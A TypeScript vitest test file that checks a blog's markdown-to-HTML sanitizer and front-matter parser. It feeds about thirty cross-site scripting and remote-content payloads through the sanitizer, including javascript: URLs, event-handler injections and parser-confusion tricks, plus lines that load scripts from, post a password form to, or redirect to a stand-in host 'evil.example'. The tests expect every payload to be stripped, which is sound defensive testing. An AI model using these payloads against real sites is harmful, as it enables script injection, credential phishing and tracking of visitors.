import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { parseMarkdownFile, toHtml } from './markdown.ts';

type Element = DefaultTreeAdapterTypes.Element;

/** All elements of some HTML as a browser would make them. */
function elements(html: string): Element[] {
  const all: Element[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) all.push(node);
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
  };
  visit(parseFragment(html));
  return all;
}

const attributes = (html: string) => elements(html).flatMap(({ attrs }) => attrs);

describe('toHtml', () => {
  it('keeps what posts are written with', () => {
    const html = toHtml(
      '## Why\n\n*So* [it](/pricing "prices") is.\n\n```html\n<b>&amp;</b>\n```\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n![Alt](/blog-images/a.svg)\n\n3. three',
    );
    for (const part of [
      '<h2>Why</h2>',
      '<em>So</em>',
      '<a href="/pricing" title="prices">it</a>',
      '<pre tabindex="0"><code class="language-html">&lt;b&gt;&amp;amp;&lt;/b&gt;',
      '<table tabindex="0">',
      '<td align="right">2</td>',
      '<img src="/blog-images/a.svg" alt="Alt"',
      '<ol start="3">',
    ]) {
      expect(html).toContain(part);
    }
  });

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="/a.svg" onload="alert(1)">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '![x](javascript:alert(1))',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="//evil.example">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
    '<p style="background:url(https://evil.example)" class="fixed" id="main">x</p>',
    '<img src="https://evil.example/track.gif"><img src="//evil.example/track.gif">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p onclick="alert(1)"\nonmouseover=alert(1)>x</p>',
    '<details open ontoggle=alert(1)>x</details>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '`</code><script>alert(1)</script>`',
  ])('removes scripts, remote content and overlays from %j', (hostile) => {
    const html = toHtml(`Before.\n\n${hostile}\n\nAfter.`);
    const names = elements(html).map(({ tagName }) => tagName);
    expect(names.filter((name) => !/^(p|a|img|code|details)$/.test(name))).toEqual([]);
    for (const { name, value } of attributes(html)) {
      expect(['href', 'src', 'alt', 'title']).toContain(name);
      if (name === 'href' || name === 'src') expect(value).toMatch(/^(\/[^/]|x$|#)/);
    }
    expect(html).toContain('<p>Before.</p>');
    expect(html).toContain('After.');
  });

  it('can’t be escaped by nested markup', () => {
    const hostile = '<a href="https://example.com/?q=%22><script>">x</a> <b><i>';
    const html = toHtml(hostile);
    expect(toHtml(html)).toContain('<a href="https://example.com/?q=%22&gt;&lt;script&gt;">x</a>');
    expect(elements(html).map(({ tagName }) => tagName)).toEqual(['p', 'a', 'b', 'i']);
  });
});

describe('parseMarkdownFile', () => {
  const Head = z.strictObject({ title: z.string() });

  it('gives the head and the body, whatever ends a line', () => {
    const file = { head: { title: 'A' }, body: 'Words.\n' };
    expect(parseMarkdownFile('---\ntitle: A\n---\nWords.\n', Head)).toEqual(file);
    expect(parseMarkdownFile('---\r\ntitle: A\r\n---\r\nWords.\n', Head)).toEqual(file);
  });

  it.each([
    ['Words.', /has no head/],
    ['---\ntitle: A\nWords.', /has no head/],
    ['---\nname: A\n---\nWords.', /title/],
    ['---\ntitle: [\n---\nWords.', /./],
  ])('refuses %j', (text, why) => {
    expect(() => parseMarkdownFile(text, Head)).toThrow(why);
  });
});
